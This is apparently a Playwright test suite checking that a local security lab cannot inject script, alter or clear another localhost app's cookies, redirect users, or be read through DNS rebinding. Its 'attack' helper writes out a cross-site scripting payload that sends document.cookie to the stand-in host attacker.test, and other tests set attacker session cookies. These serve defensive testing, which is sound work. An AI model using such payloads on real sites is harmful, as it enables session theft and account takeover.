import type { Browser, Page } from '@playwright/test';
import type { HeaderLine } from '../../model/http/headers';
import { launchBrowser } from '../../runner/browsers/launch';
import { policySegment } from '../../servers/cdn/ad-hoc-policy';
import { expect, test as base } from '../support';
import { startAttackedApp, type AttackedApp } from '../support/attacked-app';

/** Names that somebody else has led to this machine. */
const foreignHosts = ['attacker.test', 'rebind.test'];

/** A person's browser, which knows nothing of the lab, with an app on this machine that they are logged in to. */
const test = base.extend<{ app: AttackedApp; tab: Page }, { person: Browser }>({
  person: [
    async ({ engine, lab }, use) => {
      const launched = await launchBrowser(engine, {
        resolverRules: foreignHosts.map((host) => `MAP ${host} 127.0.0.1`),
        localDomains: foreignHosts,
        forcePort: '',
        route: ({ port }) => ({ host: '127.0.0.1', port }),
        spki: lab.spki,
      });
      await use(launched.browser!);
      await launched.close();
    },
    { scope: 'worker' },
  ],
  app: async ({}, use) => {
    const app = await startAttackedApp();
    await use(app);
    await app.close();
  },
  tab: async ({ person, contextOptions }, use) => {
    const context = await person.newContext(contextOptions);
    await use(await context.newPage());
    await context.close();
  },
});

test.skip(({ lab }) => lab.hosts === 'own-names', 'the lab is not on the machine of this browser');

const hosts = ['localhost', '127.0.0.1'] as const;
const logIn = (tab: Page, host: string, { port }: AttackedApp) => tab.goto(`http://${host}:${port}/login`);

/** The cookies that the app gets from this browser. */
async function cookiesAt(tab: Page, host: string, { port }: AttackedApp): Promise<string> {
  await tab.goto(`http://${host}:${port}/whoami`);
  return tab.locator('p').innerText();
}

/** A script that does in the app what the person could, and sends the attacker what it can read. */
const attack = (host: string, { port }: AttackedApp): string => `<script>
document.title = 'the script ran';
fetch('http://${host}:${port}/act', { method: 'POST', mode: 'no-cors', credentials: 'include' });
fetch('http://attacker.test:${port}/steal?' + encodeURIComponent(document.cookie), { mode: 'no-cors' });
</script>`;

const adHoc = (...headers: HeaderLine[]): string => `/p/${policySegment({ title: 'x', headers })}/tone.mp3`;

for (const host of hosts) {
  test(`a page with a hole on another port of ${host} is a hole in the app: what is tried below works`, async ({
    tab,
    app,
  }) => {
    await logIn(tab, host, app);
    await tab.goto(`http://${host}:${app.port}/hole?${encodeURIComponent(attack(host, app))}`);
    await expect(tab).toHaveTitle('the script ran');
    await expect.poll(() => app.acts).toEqual(['sid=owner; colour=dark']);
    await expect.poll(() => app.stolen).toEqual(['colour=dark']);
    await tab.goto(`http://${host}:${app.port}/set?${encodeURIComponent('sid=attacker; Path=/')}`);
    // The one that was there may not be overwritten from a page, but is by the answer of a server.
    expect(await cookiesAt(tab, host, app)).toContain('sid=attacker');
  });

  test(`the page with a hole runs no script of a link, at ${host} or under a name of the lab`, async ({
    tab,
    app,
    lab,
  }) => {
    await logIn(tab, host, app);
    const { player, evil } = lab.ports;
    const name = encodeURIComponent(attack(host, app));
    for (const [at, port, status] of [
      [host, player.http, 421],
      [host, evil.http, 421],
      ['player.localhost', player.http, 403],
      ['cdn.player.localhost', player.http, 403],
      ['evil.localhost', evil.http, 403],
    ] as const) {
      for (const key of ['', '&key=', '&key=undefined']) {
        const answer = await tab.goto(`http://${at}:${port}/lab/http/hole?name=${name}${key}`);
        expect.soft(answer?.status(), at).toBe(status);
        expect.soft(await tab.title(), at).not.toBe('the script ran');
      }
    }
    expect(await cookiesAt(tab, host, app)).toContain('sid=owner');
    expect(app.acts).toEqual([]);
    expect(app.stolen).toEqual([]);
  });

  test(`no link to the lab sets or takes away a cookie of the app at ${host}`, async ({ tab, app, lab }) => {
    await logIn(tab, host, app);
    const before = await cookiesAt(tab, host, app);
    const { http } = lab.ports.player;
    const paths = [
      adHoc(['Set-Cookie', 'sid=attacker; Path=/']),
      adHoc(['Set-Cookie', 'more=attacker; Path=/; HttpOnly']),
      adHoc(['Set-Cookie', `sid=attacker; Domain=${host}; Path=/`]),
      adHoc(['Clear-Site-Data', '"cookies", "storage"']),
      adHoc(['Clear-Site-Data', '"*"']),
      '/p/session-unspecified/login',
    ];
    for (const path of paths) {
      for (const base of [`http://${host}:${http}`, `http://player.localhost:${http}`])
        await tab.goto(base + path);
      expect.soft(await cookiesAt(tab, host, app), path).toBe(before);
    }
  });

  test(`no link to the lab at ${host} leads on to somebody else, or keeps the browser from http`, async ({
    tab,
    app,
    lab,
  }) => {
    const { http, https } = lab.ports.player;
    const elsewhere = `http://attacker.test:${app.port}/steal?arrived`;
    const moved = { title: 'x', status: 302, headers: [['Location', elsewhere]] as const };
    for (const base of [`http://${host}:${http}`, `http://player.localhost:${http}`])
      for (const path of [`/p/${policySegment(moved)}/tone.mp3`, adHoc(['Refresh', `0;url=${elsewhere}`])]) {
        const answer = await tab.goto(base + path);
        expect.soft(answer?.status(), base).toBe(400);
        expect.soft(tab.url()).toBe(base + path);
      }
    const lasting = adHoc(['Strict-Transport-Security', 'max-age=600; includeSubDomains']);
    for (const name of [host, 'player.localhost']) {
      expect.soft((await tab.goto(`https://${name}:${https}${lasting}`))?.status()).toBe(400);
      await tab.goto(`http://${name}:${app.port}/whoami`);
      expect.soft(tab.url()).toBe(`http://${name}:${app.port}/whoami`);
    }
    expect(app.stolen).toEqual([]);
  });
}

test('a cookie of a name under .localhost cannot be set for localhost, so a log-in stays with the lab', async ({
  tab,
  app,
}) => {
  const set = (host: string, cookie: string) =>
    tab.goto(`http://${host}:${app.port}/set?${encodeURIComponent(cookie)}`);
  await set('player.localhost', 'sid=attacker; Domain=localhost; Path=/');
  await set('player.localhost', 'sid=attacker; Domain=.localhost; Path=/');
  await set('player.localhost', 'own=yes; Domain=player.localhost; Path=/');
  expect(await cookiesAt(tab, 'localhost', app)).toBe('');
  expect(await cookiesAt(tab, 'cdn.localhost', app)).toBe('');
  expect(await cookiesAt(tab, 'cdn.player.localhost', app)).toBe('own=yes');
});

test('a name that somebody leads to this machine reads nothing of the lab', async ({ tab, lab }) => {
  for (const server of ['player', 'evil', 'cdn'] as const) {
    const base = `http://rebind.test:${lab.ports[server].http}`;
    for (const path of ['/', '/lab.json', '/ledger/x', '/p/wildcard/songs']) {
      const answer = await tab.goto(base + path);
      expect.soft(answer?.status(), base + path).toBe(421);
      expect.soft(await answer?.text()).not.toContain(lab.secret);
    }
    // From a page of that very origin.
    const read = await tab.evaluate(async () => {
      const question = {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: '{"tokens":[]}',
      };
      const answer = await fetch('/ledger', question).catch(() => null);
      return answer && { status: answer.status, text: await answer.text() };
    });
    expect.soft(read?.status ?? 421, base).toBe(421);
    expect.soft(read?.text ?? '', base).not.toContain('exchanges');
  }
});
